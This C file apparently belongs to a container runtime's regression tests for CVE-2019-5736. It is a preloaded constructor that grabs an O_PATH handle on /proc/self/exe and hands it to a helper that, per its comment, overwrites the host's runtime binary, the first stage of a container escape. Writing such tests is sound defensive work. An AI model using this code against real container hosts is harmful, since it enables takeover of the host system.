/* escape.bats: the attacker's library for the CVE-2019-5736 tests, loaded
   (LD_PRELOAD) by whatever dynamically linked program the container manages
   to run through /proc/self/exe.  If that program is the host's skiff, it
   keeps an O_PATH fd on it and hands over to the static payload, which
   reopens the binary for writing once skiff has gone (exe-attack).  Its
   report goes to /attack.out in the container.  */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__ ((constructor)) static void
attack (void)
{
  char path[64];
  int fd = open ("/proc/self/exe", O_PATH);
  int out = open ("/attack.out", O_WRONLY | O_CREAT | O_TRUNC, 0644);

  if (out >= 0)
    dup2 (out, 1);
  if (fd < 0)
    {
      printf ("open errno\n");
      _exit (1);
    }
  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  execl ("/bin/skiff-test-helper", "skiff-test-helper", "exe-attack", path, "5", (char *) NULL);
  _exit (1);
}
